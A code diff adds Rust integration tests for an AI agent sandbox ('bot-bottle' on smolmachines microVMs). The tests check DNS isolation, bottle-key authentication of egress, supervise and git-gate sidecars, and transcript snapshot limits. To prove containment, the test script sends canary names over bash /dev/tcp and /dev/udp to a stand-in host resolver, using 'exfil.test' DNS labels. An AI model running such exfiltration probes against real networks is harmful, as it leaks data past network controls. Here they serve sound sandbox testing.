@@ -13,11 +13,17 @@
 mod support;
 
 use std::collections::BTreeSet;
+use std::io::{Read, Write};
+use std::net::TcpStream;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
 
 use serde_json::Value;
-use support::{Env, container_ips, docker, docker_ok, docker_or_skip, leftovers, search_agent};
+use support::{
+    Env, UPSTREAM_IMAGE, container_ips, docker, docker_ok, docker_or_skip, leftovers, search_agent,
+    unique, upstream_image,
+};
 
 /// The label the fake puts on each machine's container.
 const FAKE_LABEL: &str = "dev.bot-bottle.fake-smolvm";
@@ -88,14 +94,21 @@ impl Contract {
     /// `start AGENT --backend smolmachines --yes --detach` with `vars` set;
     /// the identity.
     fn start(&self, agent: &str, vars: &[(&str, &str)]) -> String {
-        let mut cmd = self.cmd(&[
+        self.start_with(agent, &[], vars)
+    }
+
+    /// `start`, as `start` does, with more flags.
+    fn start_with(&self, agent: &str, flags: &[&str], vars: &[(&str, &str)]) -> String {
+        let mut args = vec![
             "start",
             agent,
             "--backend",
             "smolmachines",
             "--yes",
             "--detach",
-        ]);
+        ];
+        args.extend_from_slice(flags);
+        let mut cmd = self.cmd(&args);
         for (k, v) in vars {
             cmd.env(k, v);
         }
@@ -737,6 +750,9 @@ fn the_fake_rejects_argv_smolvm_would_reject() {
         ],
         &["machine", "create", "--name", "a", "--cpus", "256"],
         &["machine", "create", "--name", "a", "--allow-cidr", "nope"],
+        &["machine", "create", "--name", "a", "--net-backend", "slirp"],
+        &["machine", "create", "--name", "a", "--dns", "ns.example"],
+        &["machine", "create", "--name", "a", "--secret-file"],
         &["machine", "ls", "--json", "--quiet"],
         &["machine", "cp", "/a"],
     ];
@@ -772,4 +788,722 @@ fn the_fake_rejects_argv_smolvm_would_reject() {
         log.lines().next().unwrap(),
         r#"["machine", "start", "bot-bottle-x"]"#
     );
+}
+
+// ---------------------------------------------------------------------------
+// smolmachines is as closed as docker: the resolver, the bottle key, the
+// transcript snapshot.
+
+/// The manifest in the test's home (the operator's own, trusted as written).
+fn write_home_manifest(c: &Contract, json: &str) {
+    let path = c.env.home().join("bot-bottle.json");
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    std::fs::write(path, json).unwrap();
+}
+
+/// A canary that fits a DNS label.
+fn label_canary() -> String {
+    unique("bbc").replace('-', "x").to_ascii_lowercase()
+}
+
+/// A DNS query for `name`'s A record.
+fn dns_query(name: &str) -> Vec<u8> {
+    let mut q = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
+    for label in name.split('.') {
+        q.push(label.len() as u8);
+        q.extend_from_slice(label.as_bytes());
+    }
+    q.extend_from_slice(&[0, 0, 1, 0, 1]);
+    q
+}
+
+/// Bytes as a bash `printf` format that prints them.
+fn printf_bytes(bytes: &[u8]) -> String {
+    bytes.iter().map(|b| format!("\\x{b:02x}")).collect()
+}
+
+/// The host's resolver as smolvm would hand it to a machine, stood in for
+/// by `tests/smolvm/nameserver.py` in a container of the test's own, on an
+/// internal network of its own; it logs whatever reaches it.
+struct Nameserver {
+    ip: String,
+    network: String,
+    log: PathBuf,
+}
+
+impl Nameserver {
+    fn start(c: &Contract) -> Nameserver {
+        upstream_image();
+        let network = unique("bbtest-ns");
+        docker_ok(&[
+            "network",
+            "create",
+            "--internal",
+            "--label",
+            "dev.bot-bottle.test=1",
+            &network,
+        ]);
+        c.env.track_network(&network);
+        let dir = c.env.dir.path().join(&network);
+        std::fs::create_dir_all(dir.join("log")).unwrap();
+        std::fs::write(
+            dir.join("nameserver.py"),
+            include_str!("smolvm/nameserver.py"),
+        )
+        .unwrap();
+        let srv = format!("{}:/srv:ro", dir.display());
+        let log = format!("{}:/log", dir.join("log").display());
+        docker_ok(&[
+            "run",
+            "-d",
+            "--name",
+            &network,
+            "--network",
+            &network,
+            "--label",
+            "dev.bot-bottle.test=1",
+            "-v",
+            &srv,
+            "-v",
+            &log,
+            UPSTREAM_IMAGE,
+            "python3",
+            "/srv/nameserver.py",
+        ]);
+        c.env.track_container(&network);
+        let ns = Nameserver {
+            ip: container_ips(&network)[0].1.clone(),
+            network,
+            log: dir.join("log/seen.jsonl"),
+        };
+        ns.wait_for("\"ready\"");
+        ns
+    }
+
+    /// Everything that reached it.
+    fn seen(&self) -> String {
+        std::fs::read_to_string(&self.log).unwrap_or_default()
+    }
+
+    fn wait_for(&self, needle: &str) {
+        let deadline = Instant::now() + Duration::from_secs(30);
+        while !self.seen().contains(needle) {
+            assert!(
+                Instant::now() < deadline,
+                "the nameserver never saw {needle}: {}",
+                self.seen()
+            );
+            std::thread::sleep(Duration::from_millis(100));
+        }
+    }
+}
+
+/// smolvm gives a machine's guest the host's resolver (TSI: its address is
+/// allowed and the guest resolves through it; virtio-net: the gateway
+/// forwards every query to it, or to 1.1.1.1). The microVM must resolve
+/// only its sidecars' names, through egress's resolver, and reach the
+/// host's resolver by no path: no name resolves through it, and TCP and
+/// UDP to its address go nowhere. The nameserver stands in for both the
+/// host's first nameserver and the public fallback; a container on its
+/// network shows the same probes reach it where a path exists.
+#[test]
+fn the_microvm_resolves_only_its_sidecars_and_reaches_no_resolver_of_the_host() {
+    if !docker_or_skip("the_microvm_resolves_only_its_sidecars_and_reaches_no_resolver_of_the_host")
+    {
+        return;
+    }
+    let c = Contract::new();
+    let ns = Nameserver::start(&c);
+    let resolv = c.env.dir.path().join("host-resolv.conf");
+    std::fs::write(
+        &resolv,
+        format!("nameserver 127.0.0.53\nnameserver {}\n", ns.ip),
+    )
+    .unwrap();
+    let slug = c.start(
+        "shell",
+        &[
+            ("FAKE_SMOLVM_RESOLV_CONF", resolv.to_str().unwrap()),
+            ("FAKE_SMOLVM_PUBLIC_DNS", &ns.ip),
+        ],
+    );
+    let canary = label_canary();
+    let name = |i: u32| format!("c{i}-{canary}.exfil.test");
+    let ip = &ns.ip;
+    let script = format!(
+        "getent -s dns hosts egress; echo \"egress=$?\"\n\
+         getent -s dns hosts {n1} >/dev/null; echo \"dns=$?\"\n\
+         getent hosts {n2} >/dev/null; echo \"hosts=$?\"\n\
+         printf '{q3}' > /dev/udp/{ip}/53 2>/dev/null; true\n\
+         timeout 5 bash -c 'exec 3<>/dev/tcp/{ip}/53' 2>/dev/null; echo \"tcp53=$?\"\n\
+         timeout 5 bash -c 'exec 3<>/dev/tcp/{ip}/9999 && printf {c4} >&3' 2>/dev/null; echo \"tcp9999=$?\"\n\
+         printf '{c5}' > /dev/udp/{ip}/9999 2>/dev/null; true\n",
+        n1 = name(1),
+        n2 = name(2),
+        q3 = printf_bytes(&dns_query(&name(3))),
+        c4 = name(4),
+        c5 = name(5),
+    );
+    let (code, out, err) = c.run(&["exec", &slug, "--", "bash", "-c", &script]);
+    assert_eq!(code, 0, "{out}{err}");
+
+    // Where a path exists, the same probes reach the nameserver.
+    let control = format!(
+        "printf '{}' > /dev/udp/{ip}/53; exec 3<>/dev/tcp/{ip}/9999 && printf {} >&3",
+        printf_bytes(&dns_query(&name(0))),
+        format_args!("c0tcp-{canary}"),
+    );
+    docker_ok(&[
+        "run",
+        "--rm",
+        "--network",
+        &ns.network,
+        "debian:bookworm-slim",
+        "bash",
+        "-c",
+        &control,
+    ]);
+    ns.wait_for(&name(0));
+    ns.wait_for(&format!("c0tcp-{canary}"));
+
+    let seen = ns.seen();
+    for i in 1..=5 {
+        assert!(
+            !seen.contains(&format!("c{i}-{canary}")),
+            "probe {i} from the microVM reached the host's resolver: {seen}\n{out}"
+        );
+    }
+    let machine: Vec<String> = container_ips(&format!("fake-smolvm-{}", machine_name(&slug)))
+        .into_iter()
+        .map(|(_, ip)| ip)
+        .collect();
+    let peers: Vec<String> = seen
+        .lines()
+        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+        .filter_map(|v| v["peer"].as_str().map(str::to_owned))
+        .collect();
+    assert!(
+        !peers.iter().any(|p| machine.contains(p)),
+        "something of the microVM reached the host's resolver: {seen}"
+    );
+    // Nothing resolved, nothing connected (refused, unreachable or timed
+    // out are all the same here).
+    for probe in ["dns", "hosts", "tcp53", "tcp9999"] {
+        let status = out
+            .lines()
+            .find_map(|l| l.strip_prefix(&format!("{probe}=")))
+            .unwrap_or_else(|| panic!("no {probe} probe: {out}"));
+        assert_ne!(status, "0", "the {probe} probe succeeded: {out}");
+    }
+    // Its resolver answers the sidecars' names: egress's, on the bundle.
+    let create = create_call(&c, &slug);
+    let dns = values(&create, "dns", None);
+    assert_eq!(dns.len(), 1, "no --dns: {create:?}");
+    assert!(
+        values(&create, "allow-cidr", None).contains(&format!("{}/32", dns[0])),
+        "--dns {} is not a sidecar's address: {create:?}",
+        dns[0]
+    );
+    assert_eq!(values(&create, "net-backend", None), ["virtio-net"]);
+    assert!(
+        out.lines()
+            .next()
+            .is_some_and(|l| l.split_whitespace().next() == Some(dns[0].as_str())),
+        "egress does not resolve to itself through the resolver: {out}"
+    );
+    assert!(out.contains("egress=0"), "{out}");
+}
+
+/// A status line's code from a raw HTTP/1.1 exchange with `addr`.
+fn http_status(addr: &str, request: &str) -> u16 {
+    let mut s = TcpStream::connect_timeout(&addr.parse().unwrap(), Duration::from_secs(5))
+        .unwrap_or_else(|e| panic!("{addr} does not answer the host: {e}"));
+    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
+    s.write_all(request.as_bytes()).unwrap();
+    let mut got = Vec::new();
+    let mut buf = [0u8; 1024];
+    while !got.windows(2).any(|w| w == b"\r\n") {
+        match s.read(&mut buf) {
+            Ok(0) | Err(_) => break,
+            Ok(n) => got.extend_from_slice(&buf[..n]),
+        }
+    }
+    let line = String::from_utf8_lossy(&got).into_owned();
+    line.split_whitespace()
+        .nth(1)
+        .and_then(|c| c.parse().ok())
+        .unwrap_or_else(|| panic!("no HTTP answer from {addr}: {line:?}"))
+}
+
+/// A smolmachines bottle's sidecars keep an address on the host, so each
+/// requires the bottle key, which only the microVM's agent holds: a process
+/// on the host (this test, at the sidecars' own addresses) is refused by
+/// egress (407: its proxy port and a role listener), supervise and the git
+/// gate (401), with no key or a wrong one; the agent, with the key, uses
+/// all of them: a route through the proxy and its role listener, an MCP
+/// call, a git push that lands. The key is in no smolvm argv.
+#[test]
+fn a_host_process_cannot_use_the_sidecars_and_the_agent_can() {
+    if !docker_or_skip("a_host_process_cannot_use_the_sidecars_and_the_agent_can") {
+        return;
+    }
+    let c = Contract::new();
+    write_home_manifest(
+        &c,
+        r#"{
+          "agents": {"keyed": {"provider": "shell", "bottle": "keyed"}},
+          "bottles": {"keyed": {"extends": "default", "egress": {"routes": [
+            {"host": "api.role.test", "role": "anthropic-base-url",
+             "path_allowlist": ["/v1/messages"],
+             "auth": {"scheme": "bearer", "token_env": "BB_CONTRACT_TOKEN"}}]}}}
+        }"#,
+    );
+    let proj = c.env.proj();
+    let git = |args: &[&str]| {
+        support::succeed(
+            Command::new("git")
+                .args(args)
+                .current_dir(&proj)
+                .env("GIT_CONFIG_NOSYSTEM", "1")
+                .env("HOME", &proj),
+        )
+    };
+    git(&["init", "-q", "-b", "main"]);
+    git(&[
+        "-c",
+        "user.email=op@example.test",
+        "-c",
+        "user.name=Op",
+        "commit",
+        "-q",
+        "--allow-empty",
+        "-m",
+        "first",
+    ]);
+    let token = canary();
+    let slug = c.start_with("keyed", &["--cwd"], &[("BB_CONTRACT_TOKEN", &token)]);
+
+    // The sidecars' addresses on the bundle's network, as the machine was
+    // allowed them.
+    let create = create_call(&c, &slug);
+    let bundle = labelled_containers(&format!("dev.bot-bottle.slug={slug}"));
+    let address = |role: &str| {
+        let ctr = bundle
+            .iter()
+            .find(|n| n.ends_with(&format!("-{role}")))
+            .unwrap_or_else(|| panic!("no {role} in {bundle:?}"));
+        let ips = container_ips(ctr);
+        values(&create, "allow-cidr", None)
+            .iter()
+            .map(|c| c.trim_end_matches("/32").to_owned())
+            .find(|a| ips.iter().any(|(_, ip)| ip == a))
+            .unwrap_or_else(|| panic!("{role} is not among the allowed addresses"))
+    };
+    let (egress, supervise, gate) = (address("egress"), address("supervise"), address("git-gate"));
+    let routes: Value = serde_json::from_str(
+        &std::fs::read_to_string(c.env.bottle(&slug).egress_routes()).unwrap(),
+    )
+    .unwrap();
+    let role_port = routes["routes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find_map(|r| r["role"]["listen"].as_u64())
+        .unwrap_or_else(|| panic!("no role listener: {routes}"));
+
+    // The host: refused everywhere, with no key and with a wrong one.
+    let wrong = {
+        use base64::Engine as _;
+        base64::engine::general_purpose::STANDARD.encode(format!("bottle:{}", "0".repeat(64)))
+    };
+    for auth in [
+        String::new(),
+        format!("Proxy-Authorization: Basic {wrong}\r\n"),
+    ] {
+        let plain = format!(
+            "GET http://api.role.test/v1/models HTTP/1.1\r\nHost: api.role.test\r\n{auth}\r\n"
+        );
+        let connect =
+            format!("CONNECT api.role.test:443 HTTP/1.1\r\nHost: api.role.test:443\r\n{auth}\r\n");
+        let role = format!("GET /v1/models HTTP/1.1\r\nHost: egress\r\n{auth}\r\n");
+        assert_eq!(
+            http_status(&format!("{egress}:3128"), &plain),
+            407,
+            "egress's proxy served the host ({auth:?})"
+        );
+        assert_eq!(
+            http_status(&format!("{egress}:3128"), &connect),
+            407,
+            "egress tunnelled for the host ({auth:?})"
+        );
+        assert_eq!(
+            http_status(&format!("{egress}:{role_port}"), &role),
+            407,
+            "egress's role listener served the host ({auth:?})"
+        );
+    }
+    let bad_bearer = format!("Authorization: Bearer {}\r\n", "0".repeat(64));
+    for auth in [String::new(), bad_bearer] {
+        let mcp = format!(
+            "POST /mcp HTTP/1.1\r\nHost: supervise:8765\r\n{auth}Content-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: 2\r\n\r\n{{}}"
+        );
+        let refs = format!(
+            "GET /repo.git/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: git-gate\r\n{auth}\r\n"
+        );
+        assert_eq!(
+            http_status(&format!("{supervise}:8765"), &mcp),
+            401,
+            "supervise served the host ({auth:?})"
+        );
+        assert_eq!(
+            http_status(&format!("{gate}:8418"), &refs),
+            401,
+            "the gate served the host ({auth:?})"
+        );
+    }
+
+    // The agent, with the key: the proxy, a role listener through it, MCP,
+    // a push.
+    let agent = |script: &str| {
+        let (code, out, err) = c.run(&["exec", &slug, "--", "bash", "-c", script]);
+        assert_eq!(code, 0, "{script}: {out}{err}");
+        out
+    };
+    let code = |url_args: &str| {
+        agent(&format!(
+            "curl -s -m 20 -o /dev/null -w '%{{http_code}}' {url_args}; true"
+        ))
+        .trim()
+        .to_owned()
+    };
+    assert_eq!(
+        code("http://not-allowed.test/"),
+        "403",
+        "the proxy did not serve the agent"
+    );
+    // Through the role listener to its route, whose paths refuse this one
+    // (so nothing is looked up upstream).
+    let role = code("\"$ANTHROPIC_BASE_URL/v1/models\"");
+    assert_eq!(role, "403", "the role listener did not serve the agent");
+    let decisions =
+        std::fs::read_to_string(c.env.bottle(&slug).egress_decisions()).unwrap_or_default();
+    assert!(
+        decisions.contains("api.role.test"),
+        "the agent's role request did not reach its route: {decisions}"
+    );
+    let init = r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-03-26","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}"#;
+    let mcp = |auth: &str| {
+        code(&format!(
+            "{auth} -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' -d '{init}' \"$BOT_BOTTLE_MCP_URL\""
+        ))
+    };
+    assert_eq!(
+        mcp("-H \"Authorization: Bearer $BOT_BOTTLE_KEY\""),
+        "200",
+        "supervise refused the agent"
+    );
+    assert_eq!(mcp(""), "401", "supervise served a request without the key");
+    agent(
+        "cd /workspace && git -c user.email=a@example.test -c user.name=agent commit -q --allow-empty -m keyed \
+         && git push -q origin HEAD:refs/heads/keyed 2>&1",
+    );
+    git(&[
+        "rev-parse",
+        "--verify",
+        "-q",
+        &format!("refs/heads/bot-bottle/{slug}/keyed"),
+    ]);
+
+    // The key is in no argv and no record of smolvm's, and goes at teardown.
+    let key_file = c.env.bottle(&slug).root().join("egress/client-key");
+    let key = std::fs::read_to_string(&key_file).unwrap();
+    let key = key.trim();
+    for call in c.calls() {
+        assert!(
+            !call.iter().any(|a| a.contains(key)),
+            "the key is in a smolvm argv: {call:?}"
+        );
+    }
+    let record = std::fs::read_to_string(
+        c.state
+            .join("machines")
+            .join(format!("{}.json", machine_name(&slug))),
+    )
+    .unwrap();
+    assert!(!record.contains(key), "the key is in the machine's record");
+    let (code, _, err) = c.run(&["stop", &slug]);
+    assert_eq!(code, 0, "{err}");
+    c.assert_gone(&slug);
+    assert!(!key_file.exists(), "the key outlived the bottle");
+}
+
+/// Runs `cmd` to its end, or kills it after `bound` (a guard against a
+/// hang, far past any deadline the run itself has); (exit code, stderr),
+/// None when it had to be killed.
+fn run_bounded(mut cmd: Command, bound: Duration) -> Option<(i32, String)> {
+    let mut child = cmd
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut stderr = child.stderr.take().unwrap();
+    let reader = std::thread::spawn(move || {
+        let mut text = String::new();
+        let _ = stderr.read_to_string(&mut text);
+        text
+    });
+    let deadline = Instant::now() + bound;
+    loop {
+        if let Some(status) = child.try_wait().unwrap() {
+            return Some((status.code().unwrap_or(-1), reader.join().unwrap()));
+        }
+        if Instant::now() > deadline {
+            let _ = child.kill();
+            let _ = child.wait();
+            return None;
+        }
+        std::thread::sleep(Duration::from_millis(200));
+    }
+}
+
+/// A transcript snapshot on smolmachines is bounded like docker's, by what
+/// the host counts: an agent whose image lies about sizes (its `wc` says
+/// one byte) and whose transcript is larger than the (lowered) limit is cut off
+/// and nothing is kept; one whose `tar` never ends is cut at the (lowered)
+/// deadline. The agent is a `claude` that writes 3 MB of transcript and
+/// crashes, so the bottle is kept and its transcript snapshotted.
+#[test]
+fn the_transcript_snapshot_is_bounded_by_what_the_host_counts() {
+    if !docker_or_skip("the_transcript_snapshot_is_bounded_by_what_the_host_counts") {
+        return;
+    }
+    let c = Contract::new();
+    write_home_manifest(
+        &c,
+        r#"{
+          "agents": {"snap": {"provider": "claude", "bottle": "snapbox"}},
+          "bottles": {"snapbox": {"dockerfile": "snap.Dockerfile"}}
+        }"#,
+    );
+    std::fs::write(
+        c.env.home().join("snap.Dockerfile"),
+        r#"FROM debian:bookworm-slim
+RUN useradd -u 1000 -m -s /bin/sh agent && mkdir -p /etc/ssl/certs \
+ && printf '#!/bin/sh\necho 1\n' > /usr/local/bin/wc \
+ && printf '#!/bin/sh\n[ -e "$HOME/.claude/slow" ] && exec sleep 100000\nexec /bin/tar "$@"\n' > /usr/local/bin/tar \
+ && printf '#!/bin/sh\nmkdir -p "$HOME/.claude"\nhead -c 3000000 /dev/urandom > "$HOME/.claude/transcript"\nfor a; do [ "$a" = slow ] && touch "$HOME/.claude/slow"; done\nexit 3\n' > /usr/local/bin/claude \
+ && chmod 755 /usr/local/bin/wc /usr/local/bin/tar /usr/local/bin/claude
+"#,
+    )
+    .unwrap();
+    let crash = |extra: &[&str], var: (&str, &str)| {
+        let mut args = vec!["start", "snap", "--backend", "smolmachines", "--yes"];
+        args.extend_from_slice(extra);
+        let mut cmd = c.cmd(&args);
+        cmd.env(var.0, var.1);
+        let (code, err) = run_bounded(cmd, Duration::from_secs(400))
+            .expect("start hung: the transcript snapshot was not cut off at its deadline");
+        let slug = err
+            .lines()
+            .find_map(|l| l.strip_prefix("bot-bottle resume "))
+            .unwrap_or_else(|| panic!("no resume hint (exit {code}): {err}"))
+            .trim()
+            .to_owned();
+        c.env.track(&slug);
+        assert_eq!(code, 3, "{err}");
+        (slug, err)
+    };
+
+    let (slug, err) = crash(&[], ("BOT_BOTTLE_SNAPSHOT_LIMIT", "1048576"));
+    let kept = c.env.bottle(&slug).transcript();
+    assert!(
+        !kept.exists(),
+        "a transcript larger than the limit was kept: {} bytes",
+        std::fs::metadata(&kept).map(|m| m.len()).unwrap_or(0)
+    );
+    assert!(err.contains("larger than 1 MiB: cut off"), "{err}");
+    c.assert_gone(&slug);
+
+    let (slug, err) = crash(&["--", "slow"], ("BOT_BOTTLE_SNAPSHOT_TIMEOUT", "3"));
+    assert!(
+        !c.env.bottle(&slug).transcript().exists(),
+        "a cut-off transcript was kept"
+    );
+    assert!(err.contains("took longer than 3 s: cut off"), "{err}");
+    c.assert_gone(&slug);
+}
+
+/// Egress with a bottle key, on loopback (no docker): a request without
+/// the key, or with a wrong one, is refused (407) on the proxy port and on
+/// a role listener; with it, the request goes on, without the key, and a
+/// request through the proxy to egress's own role listener is served as
+/// that listener serves it (the route's host, its paths).
+#[tokio::test]
+async fn egress_with_a_bottle_key_serves_only_its_holder() {
+    use bot_bottle::egress::client_key::ClientKey;
+    use bot_bottle::egress::config::{EgressConfig, RoleConfig, RouteConfig};
+    use bot_bottle::egress::proxy::{Bound, Limits, Options};
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+    // A plain upstream that answers with the request it got.
+    let upstream = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let upstream_addr = upstream.local_addr().unwrap();
+    tokio::spawn(async move {
+        while let Ok((mut s, _)) = upstream.accept().await {
+            tokio::spawn(async move {
+                let mut head = Vec::new();
+                let mut buf = [0u8; 4096];
+                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
+                    match s.read(&mut buf).await {
+                        Ok(0) | Err(_) => return,
+                        Ok(n) => head.extend_from_slice(&buf[..n]),
+                    }
+                }
+                let reply = format!(
+                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+                    head.len()
+                );
+                let _ = s.write_all(reply.as_bytes()).await;
+                let _ = s.write_all(&head).await;
+            });
+        }
+    });
+    let dir = tempfile::tempdir().unwrap();
+    let state = dir.path().join("egress");
+    std::fs::create_dir_all(&state).unwrap();
+    let (ca_cert, ca_key) = bot_bottle::egress::ca::new_ca().unwrap();
+    std::fs::write(state.join("ca.pem"), ca_cert).unwrap();
+    std::fs::write(state.join("ca.key"), ca_key).unwrap();
+    let plain = RouteConfig {
+        host: "plain.test".into(),
+        allow_private_addresses: true,
+        ..Default::default()
+    };
+    let role = RouteConfig {
+        host: "api.test".into(),
+        path_allowlist: vec!["/v1/messages".into()],
+        role: Some(RoleConfig {
+            name: "anthropic-base-url".into(),
+            listen: 4001,
+        }),
+        ..Default::default()
+    };
+    let config = EgressConfig {
+        listen: 3128,
+        routes: vec![plain, role],
+        trust_upstream_ca: vec![],
+    };
+    std::fs::write(
+        state.join("routes.json"),
+        serde_json::to_string(&config).unwrap(),
+    )
+    .unwrap();
+    std::fs::write(state.join("tokens.json"), "{}").unwrap();
+    let overrides = std::collections::HashMap::from([("plain.test".to_owned(), upstream_addr)]);
+    let bound = Bound::bind(Options {
+        state_dir: state.clone(),
+        bind_ip: [127, 0, 0, 1].into(),
+        also_bind: vec![],
+        ephemeral_ports: true,
+        overrides: std::sync::Arc::new(overrides),
+        limits: Limits::default(),
+    })
+    .await
+    .unwrap();
+    let key = ClientKey::generate();
+    bound.require_client_key(key.clone());
+    let proxy = bound.proxy_addr().unwrap();
+    let role_listener = bound.addr(4001).unwrap();
+    tokio::spawn(bound.serve(std::future::pending()));
+
+    /// (status, the whole answer).
+    async fn exchange(addr: std::net::SocketAddr, request: String) -> (u16, String) {
+        let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
+        s.write_all(request.as_bytes()).await.unwrap();
+        let mut got = Vec::new();
+        let _ = tokio::time::timeout(Duration::from_secs(20), s.read_to_end(&mut got)).await;
+        let text = String::from_utf8_lossy(&got).into_owned();
+        let code = text
+            .split_whitespace()
+            .nth(1)
+            .and_then(|c| c.parse().ok())
+            .unwrap_or(0);
+        (code, text)
+    }
+    let basic = |password: &str| {
+        use base64::Engine as _;
+        let creds = base64::engine::general_purpose::STANDARD.encode(format!("bottle:{password}"));
+        format!("Proxy-Authorization: Basic {creds}\r\n")
+    };
+    let get = |url: &str, host: &str, auth: &str| {
+        format!("GET {url} HTTP/1.1\r\nHost: {host}\r\n{auth}Connection: close\r\n\r\n")
+    };
+    let wrong = "0".repeat(64);
+
+    for auth in [
+        String::new(),
+        basic(&wrong),
+        format!("Authorization: Bearer {}\r\n", key.expose()),
+    ] {
+        let (code, text) = exchange(proxy, get("http://plain.test/", "plain.test", &auth)).await;
+        assert_eq!(code, 407, "{auth:?}: {text}");
+        assert!(
+            text.to_ascii_lowercase()
+                .contains("proxy-authenticate: basic"),
+            "{text}"
+        );
+        let connect = format!(
+            "CONNECT plain.test:443 HTTP/1.1\r\nHost: plain.test:443\r\n{auth}Connection: close\r\n\r\n"
+        );
+        assert_eq!(exchange(proxy, connect).await.0, 407, "{auth:?}");
+        let direct = get("/v1/messages", "egress:4001", &auth);
+        assert_eq!(exchange(role_listener, direct).await.0, 407, "{auth:?}");
+    }
+
+    // With the key: through, and the key stops at egress.
+    let (code, text) = exchange(
+        proxy,
+        get("http://plain.test/", "plain.test", &basic(key.expose())),
+    )
+    .await;
+    assert_eq!(code, 200, "{text}");
+    assert!(
+        text.contains("GET / HTTP/1.1"),
+        "not the upstream's answer: {text}"
+    );
+    assert!(
+        !text.to_ascii_lowercase().contains("proxy-authorization"),
+        "{text}"
+    );
+    assert!(
+        !text.contains(key.expose()),
+        "the key went upstream: {text}"
+    );
+    // Bearer works as well as Basic.
+    let bearer = format!("Proxy-Authorization: Bearer {}\r\n", key.expose());
+    assert_eq!(
+        exchange(proxy, get("http://plain.test/", "plain.test", &bearer))
+            .await
+            .0,
+        200
+    );
+
+    // Through the proxy to egress's own role listener: its route decides
+    // (a path outside it is refused as the route's, for api.test).
+    let (code, text) = exchange(
+        proxy,
+        get(
+            "http://egress:4001/v1/models",
+            "egress:4001",
+            &basic(key.expose()),
+        ),
+    )
+    .await;
+    assert_eq!(code, 403, "{text}");
+    let log = std::fs::read_to_string(state.join("decisions.jsonl")).unwrap_or_default();
+    assert!(
+        log.contains("https://api.test/v1/models"),
+        "not served as the role: {log}"
+    );
+    assert!(!log.contains(key.expose()), "the key was logged");
 }
